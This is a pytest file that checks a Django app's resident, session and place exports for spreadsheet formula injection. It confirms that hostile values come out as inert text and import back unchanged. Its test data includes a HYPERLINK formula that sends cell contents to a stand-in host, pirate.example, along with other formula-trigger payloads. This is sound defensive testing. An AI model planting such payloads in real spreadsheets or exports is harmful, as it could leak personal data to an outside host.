"""Staff exports never hand a spreadsheet a formula (issue 13, finding 4): a resident's name,
a session's note or a place's name typed as "=HYPERLINK(…)" comes out as text — quoted in
CSV, a text cell in XLSX, as it is in JSON — and the import reads back exactly what was
exported."""

import csv
import datetime
import io
import zipfile
from decimal import Decimal

import openpyxl
import pytest
from django.utils import timezone

from learners import imports
from learners.models import Resident, Session
from learners.resources import SESSION_COLUMNS
from pathway.models import Place
from stats.demo.factories import ParticipationFactory, PlaceFactory, ResidentFactory, SessionFactory

pytestmark = [pytest.mark.django_db, pytest.mark.security_review]

YESTERDAY = timezone.localdate() - datetime.timedelta(days=1)

# What a spreadsheet would run, by its first character (OWASP), and a text that already
# starts with the quote the CSV export adds.
HOSTILE = [
    '=HYPERLINK("https://pirate.example/?vol="&A2,"Voir la fiche")',
    "+1+1",
    "-1+cmd",
    "@SUM(1+1)",
    "'=1+1",
]


def download(client, kind, file_format):
    response = client.get(f"/exports/{kind}.{file_format}")
    assert response.status_code == 200
    return response.content


def cells(content, file_format):
    """{column: [values]} as a spreadsheet or a program reads the file."""
    if file_format == "csv":
        rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))
    elif file_format == "json":
        import json

        rows = json.loads(content)
    else:
        sheet = openpyxl.load_workbook(io.BytesIO(content)).active
        header, *body = list(sheet.iter_rows())
        rows = [{h.value: cell for h, cell in zip(header, row, strict=True)} for row in body]
    return {name: [row[name] for row in rows] for name in rows[0]} if rows else {}


def assert_inert(content, file_format, column, expected):
    """Each expected text is in the column, as text that nothing runs."""
    found = cells(content, file_format)[column]
    if file_format == "csv":
        # OWASP's leading quote before what a spreadsheet would run, nothing else changed.
        assert sorted(found) == sorted("'" + text for text in expected)
    elif file_format == "json":
        assert sorted(found) == sorted(expected)
    else:
        assert sorted(cell.value for cell in found) == sorted(expected)
        assert {cell.data_type for cell in found} == {"s"}  # text cells, never formulas
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
            assert sheets and not any(b"<f>" in archive.read(name) for name in sheets)


def import_back(content, file_format, kind, user):
    dataset = imports.read_dataset(content, f"fichier.{file_format}")
    report = imports.run_import(imports.KINDS[kind], dataset, user=user, dry_run=False)
    assert report["errors"] == []
    return report


def test_hostile_names_of_residents_come_out_as_text(cast):
    for i, text in enumerate(HOSTILE):
        ResidentFactory(created_by_actor=cast.actor_a, first_name=text, last_name=f"Témoin{i}")
    Resident.objects.filter(pk=cast.resident.pk).delete()
    client = cast.client("mediator_a")
    for file_format in ["csv", "xlsx", "json"]:
        content = download(client, "residents", file_format)
        assert_inert(content, file_format, "prénom", HOSTILE)


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_an_export_of_hostile_names_imports_back_exactly(cast, file_format):
    for i, text in enumerate(HOSTILE):
        ResidentFactory(created_by_actor=cast.actor_a, first_name=f"Prénom{i}", last_name=text)
    Resident.objects.filter(pk=cast.resident.pk).delete()
    content = download(cast.client("mediator_a"), "residents", file_format)
    assert_inert(content, file_format, "nom", HOSTILE)
    Resident.objects.update(last_name="Changé")

    report = import_back(content, file_format, "residents", cast.mediator_a)

    assert report["update"] == len(HOSTILE) and report["new"] == 0
    names = Resident.objects.values_list("last_name", flat=True)
    assert sorted(names) == sorted(HOSTILE)


@pytest.fixture
def hostile_sessions(cast):
    """Sessions of actor A whose notes, workshop title and place name are hostile."""
    place = PlaceFactory(actor=cast.actor_a, name=HOSTILE[0])
    sessions = []
    for i, text in enumerate(HOSTILE):
        session = SessionFactory(
            actor=cast.actor_a,
            created_by=cast.mediator_a,
            date=YESTERDAY,
            start_time=datetime.time(9 + i),
            place=place,
            collective=True,
            workshop_title=HOSTILE[-1 - i],
            notes=text,
        )
        ParticipationFactory(session=session, resident=cast.resident)
        sessions.append(session)
    return place, sessions


def test_hostile_notes_and_place_names_of_sessions_come_out_as_text(cast, hostile_sessions):
    client = cast.client("mediator_a")
    for file_format in ["csv", "xlsx", "json"]:
        content = download(client, "sessions", file_format)
        assert_inert(content, file_format, SESSION_COLUMNS["notes"], HOSTILE)
        assert_inert(content, file_format, SESSION_COLUMNS["workshop_title"], HOSTILE)
        assert_inert(content, file_format, SESSION_COLUMNS["place"], [HOSTILE[0]] * len(HOSTILE))


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_an_export_of_hostile_sessions_imports_back_exactly(cast, hostile_sessions, file_format):
    place, sessions = hostile_sessions
    content = download(cast.client("mediator_a"), "sessions", file_format)
    assert_inert(content, file_format, SESSION_COLUMNS["notes"], HOSTILE)
    Session.objects.update(notes="changé", workshop_title="changé", place=None)

    report = import_back(content, file_format, "sessions", cast.mediator_a)

    assert report["update"] == len(HOSTILE)
    for session in sessions:
        before = (session.notes, session.workshop_title, place.pk)
        session.refresh_from_db()
        assert (session.notes, session.workshop_title, session.place_id) == before


def test_tabs_and_carriage_returns_at_the_start_are_quoted_too(cast):
    SessionFactory(actor=cast.actor_a, created_by=cast.mediator_a, notes="\t=1+1")
    SessionFactory(actor=cast.actor_a, created_by=cast.mediator_a, notes="\r=1+1")
    content = download(cast.client("mediator_a"), "sessions", "csv")
    notes = cells(content, "csv")[SESSION_COLUMNS["notes"]]
    assert sorted(notes) == ["'\t=1+1", "'\r=1+1"]


def test_negative_numbers_stay_numbers_beside_quoted_names(cast):
    """A longitude west of Greenwich is a number: no quote before it; the place's hostile
    name gets one, and both come back from the file."""
    Place.objects.filter(pk=cast.place_a.pk).update(
        name="-Salle+1", longitude=Decimal("-1.553"), latitude=Decimal("47.218")
    )
    content = imports.export(imports.KINDS["places"], user=cast.network_admin, file_format="csv")
    assert cells(content, "csv")["nom"] == ["'-Salle+1"]
    assert cells(content, "csv")["longitude"] == ["-1,553000"]
    Place.objects.filter(pk=cast.place_a.pk).update(longitude=Decimal("5"))

    report = import_back(content, "csv", "places", cast.network_admin)

    assert (report["new"], report["update"]) == (0, 1)
    place = Place.objects.get(pk=cast.place_a.pk)
    assert (place.name, place.longitude) == ("-Salle+1", Decimal("-1.553"))
